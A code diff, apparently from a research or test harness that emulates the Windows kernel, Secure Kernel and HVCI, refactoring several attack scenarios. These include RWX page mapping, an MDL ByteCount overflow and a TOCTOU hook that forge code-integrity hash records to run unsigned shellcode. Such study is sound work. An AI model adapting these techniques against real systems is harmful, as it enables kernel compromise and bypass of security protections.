@@ -252,7 +252,7 @@ def _rwx_and_jump(cpu: Cpu, window: int) -> str:
         cpu.call(va)
         return "pool"
     _, gpa = nt.alloc_kernel_page(cpu)
-    tables = PageTables(nt.phys(cpu), nt.space.pt.root)
+    tables = PageTables(nt.phys(cpu), nt.space.root)
     tables.map(window, gpa, int(Pte.RW | Pte.G))  # present, writable, executable
     cpu.invlpg(window)
     cpu.write(window, thunk)
@@ -290,9 +290,11 @@ def _victim(ctx: AttackContext, protect: bool) -> ntkdp.Section:
     nt = _nt(ctx)
     vp = ctx.vp
     vp.actor = "edr.sys"
-    section = ntkdp.load_data_section(nt, vp, VICTIM_SECTION, 1, VICTIM_VALUE.to_bytes(8, "little"))
+    section = ntkdp.load_data_section(
+        nt, vp.cpu, VICTIM_SECTION, 1, VICTIM_VALUE.to_bytes(8, "little")
+    )
     if protect:
-        status = ntkdp.mm_protect_driver_section(nt, vp, section.va)
+        status = ntkdp.mm_protect_driver_section(nt, vp.cpu, section.va)
         ctx.notes["protect_status"] = NtStatus.name_of(status)
     vp.actor = "nt"
     ctx.notes["variable_va"] = section.va
@@ -393,7 +395,7 @@ FORGED_LENGTH = SkHvci.HASH_RECORDS + SkHvci.RECORD_SIZE
 
 
 def _a8_shellcode(vp: VirtualProcessor) -> int:
-    record_run(vp, "a8")
+    record_run(vp.cpu, "a8")
     return 0
 
 
@@ -413,7 +415,7 @@ def _prepare(vp: VirtualProcessor) -> _Prepared:
     compute the SHA-256 of the page as it will be with the shellcode's thunk in that slot.  The
     forged bytes are a hash-record header (count 1, the loader's capacity) and one record naming
     that page with that hash.  Nothing here asks the Secure Kernel anything."""
-    nt = nt_of(vp)
+    nt = nt_of(vp.cpu)
     header = (1).to_bytes(4, "little") + SkHvci.HASH_MAX.to_bytes(4, "little") + MARKER
     page_index = len(nt.space.code_pages) - 1
     va_page = CODE_BASE + page_index * PAGE_SIZE
@@ -435,16 +437,16 @@ def _make_executable_and_run(vp: VirtualProcessor, prepared: _Prepared) -> str:
     MAKE_PROTECTED_PAGE_WRITABLE (NT's hotpatch path), write the thunk, and ask the SK to make
     the page executable again (it re-hashes it against its records); call the shellcode if the
     SK said yes."""
-    nt = nt_of(vp)
+    nt = nt_of(vp.cpu)
     assert nt.vsl is not None
-    status, _ = nt.vsl.call(vp, Service.MAKE_PROTECTED_PAGE_WRITABLE, prepared.pfn)
+    status, _ = nt.vsl.call(vp.cpu, Service.MAKE_PROTECTED_PAGE_WRITABLE, prepared.pfn)
     if status == NtStatus.NOT_SUPPORTED:
         return "no-hvci"
     if status != NtStatus.SUCCESS:
         return NtStatus.name_of(status)
     page_offset = prepared.code_va & (PAGE_SIZE - 1)
     vp.write(DIRECT_MAP + (prepared.pfn << PAGE_SHIFT) + page_offset, prepared.thunk)
-    status, _ = nt.vsl.call(vp, Service.MAKE_PROTECTED_PAGE_EXECUTABLE, prepared.pfn, 0)
+    status, _ = nt.vsl.call(vp.cpu, Service.MAKE_PROTECTED_PAGE_EXECUTABLE, prepared.pfn, 0)
     if status != NtStatus.SUCCESS:
         return NtStatus.name_of(status)
     vp.call(prepared.code_va)
@@ -454,24 +456,26 @@ def _make_executable_and_run(vp: VirtualProcessor, prepared: _Prepared) -> str:
 def _overflow_source(nt: NtKernel, vp: VirtualProcessor, forged: bytes) -> list[int]:
     """Two pages: filler for the allocation, then the forged bytes that land behind it."""
     filler = MARKER * (PAGE_SIZE // len(MARKER))
-    return ntkdp.stage_buffer(nt, vp, filler + forged.ljust(PAGE_SIZE, b"\0"))
+    return ntkdp.stage_buffer(nt, vp.cpu, filler + forged.ljust(PAGE_SIZE, b"\0"))
 
 
 def _crafted_fills(vp: VirtualProcessor) -> list[Any]:
     """K0: a secure allocation of one page, then FILL_SECURE_ALLOCATION with an MDL whose
     ByteCount runs past it (unchecked TransferMdl->ByteCount), and one whose offset starts right
     after it; then, under HVCI, the follow-on that turns the overwrite into unsigned code."""
-    nt = nt_of(vp)
+    nt = nt_of(vp.cpu)
     prepared = _prepare(vp)
-    status, handle = ntkdp.create_secure_allocation(nt, vp, PAGE_SIZE)
+    status, handle = ntkdp.create_secure_allocation(nt, vp.cpu, PAGE_SIZE)
     if status != NtStatus.SUCCESS:
         return [status]
     source = _overflow_source(nt, vp, prepared.forged)
     statuses: list[Any] = [status]
     for offset, count in ((0, PAGE_SIZE + FORGED_LENGTH), (PAGE_SIZE, FORGED_LENGTH)):
         pfns = source if offset == 0 else source[1:]
-        mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp, pfns, count)
-        statuses.append(ntkdp.fill_secure_allocation_raw(nt, vp, handle, offset, mdl_va, mdl_pfn))
+        mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp.cpu, pfns, count)
+        statuses.append(
+            ntkdp.fill_secure_allocation_raw(nt, vp.cpu, handle, offset, mdl_va, mdl_pfn)
+        )
     statuses.append(_make_executable_and_run(vp, prepared))
     return [*statuses, prepared.forged]
 
@@ -519,25 +523,25 @@ def _toctou_fill(vp: VirtualProcessor) -> list[Any]:
     Kernel makes its "get physical pages" normal call after validating the MDL and before
     copying; NT's code — the attacker's hook — runs then and enlarges ByteCount in VTL0 memory
     so that the copy reaches the forged bytes into the hash records behind the allocation."""
-    nt = nt_of(vp)
+    nt = nt_of(vp.cpu)
     assert nt.vsl is not None
     prepared = _prepare(vp)
-    status, handle = ntkdp.create_secure_allocation(nt, vp, PAGE_SIZE)
+    status, handle = ntkdp.create_secure_allocation(nt, vp.cpu, PAGE_SIZE)
     if status != NtStatus.SUCCESS:
         return [status, prepared.forged]
     source = _overflow_source(nt, vp, prepared.forged)
-    mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp, source, 64)
+    mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp.cpu, source, 64)
     original = nt.vsl.normal_calls[NORMAL_GET_PHYSICAL_PAGES]
     swapped: list[int] = []
 
-    def hooked(nt_: NtKernel, vp_: VirtualProcessor, args: list[int]) -> list[int]:
+    def hooked(nt_: NtKernel, vp_: Cpu, args: list[int]) -> list[int]:
         vp_.write_u32(mdl_va + MDL_BYTECOUNT_OFFSET, PAGE_SIZE + FORGED_LENGTH)
         swapped.append(1)
         return original(nt_, vp_, args)
 
     nt.vsl.normal_calls[NORMAL_GET_PHYSICAL_PAGES] = hooked
     try:
-        fill = ntkdp.fill_secure_allocation_raw(nt, vp, handle, 0, mdl_va, mdl_pfn)
+        fill = ntkdp.fill_secure_allocation_raw(nt, vp.cpu, handle, 0, mdl_va, mdl_pfn)
     finally:
         nt.vsl.normal_calls[NORMAL_GET_PHYSICAL_PAGES] = original
     return [status, fill, len(swapped), prepared.forged]
